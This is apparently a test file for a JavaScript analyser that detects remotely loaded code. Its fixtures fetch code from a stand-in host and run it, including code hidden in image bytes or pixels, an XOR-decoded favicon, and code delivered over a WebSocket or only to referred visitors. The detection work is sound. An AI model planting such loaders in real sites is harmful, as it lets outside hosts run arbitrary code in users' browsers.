import assert from 'node:assert/strict';
import { analyse } from '../../flow/analyse.ts';

const run = `var t=new TextDecoder('latin1').decode(b);eval(t.slice(t.indexOf('/*')))`;
const cases: Record<string, [string, string[]]> = {
  'code in the bytes of a picture of another host': [
    `fetch('https://x.example/bg.jpg').then(function(r){return r.arrayBuffer()}).then(function(b){${run}})`,
    ['high answer-run-as-code', 'low decoded-code-executed'],
  ],
  'code in the pixels of a picture of another host': [
    `var i=new Image();i.onload=function(){var c=document.createElement('canvas').getContext('2d');c.drawImage(i,0,0);var d=c.getImageData(0,0,9,9).data,s='';for(var k=0;k<d.length;k+=4)s+=String.fromCharCode(d[k]);new Function(s)()};i.src='https://x.example/logo.png'`,
    ['high answer-run-as-code', 'low decoded-code-executed'],
  ],
  'code in an icon asked for by XMLHttpRequest': [
    `var u='https://x.example/'+location.hostname+'/favicon.ico',x=new XMLHttpRequest();x.open('GET',u);x.onload=function(){var b=new Uint8Array(x.response),s='';for(var i=9;i<b.length;i++)s+=String.fromCharCode(b[i]^51);var e=document.createElement('script');e.text=s;document.head.appendChild(e)};x.send()`,
    ['high answer-run-as-code', 'low decoded-code-executed'],
  ],
  'bytes of a program that is packed': [
    `fetch('https://x.example/app.bin').then(function(r){return r.arrayBuffer()}).then(function(b){${run}})`,
    ['low decoded-code-executed'],
  ],
  'a pixel that counts beside code that is fetched': [
    `new Image().src='https://x.example/p.gif';fetch('https://x.example/app.js').then(function(r){return r.text()}).then(function(t){eval(t)})`,
    ['low answer-run-as-code'],
  ],
  'an answer from a host in pieces': [
    `fetch('https://sta'+'ts-cd'+'n.example/a').then(function(r){return r.json()})`,
    ['medium script-from-decoded-url'],
  ],
  'an answer that is decoded and run': [
    `fetch('https://x.example/a').then(function(r){return r.text()}).then(function(t){Function(atob(t))()})`,
    ['medium answer-run-as-code', 'low decoded-code-executed'],
  ],
  'an answer that is run for visitors from elsewhere': [
    `if(document.referrer){var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};x.open('GET','https://x.example/a');x.send()}`,
    ['high answer-run-as-code'],
  ],
  'an answer handed to a callback and run': [
    `function get(u,cb){var x=new XMLHttpRequest();x.onload=function(){cb(x.responseText)};x.open('GET',u);x.send()}var c={get:get};c.get('/a',function(t){eval(t)})`,
    ['low answer-run-as-code'],
  ],
  'code from a socket': [
    `var w=new WebSocket('wss://x.example/');w.onmessage=function(e){new Function(e.data)()}`,
    ['high answer-run-as-code'],
  ],
  'code fetched as text': [
    `fetch('https://x.example/a').then(function(r){return r.text()}).then(function(t){eval(t)})`,
    ['low answer-run-as-code'],
  ],
  'JSON read the old way': [
    `var x=new XMLHttpRequest();x.onload=function(){var d=eval('('+x.responseText+')')};x.open('GET','https://x.example/a');x.send()`,
    [],
  ],
};

describe('code in answers and pictures', () => {
  for (const [title, [script, expected]] of Object.entries(cases))
    it(`sees ${title}`, () =>
      assert.deepEqual(
        analyse(script).evidence.map(({ severity, rule }) => `${severity} ${rule}`),
        expected,
      ));
});
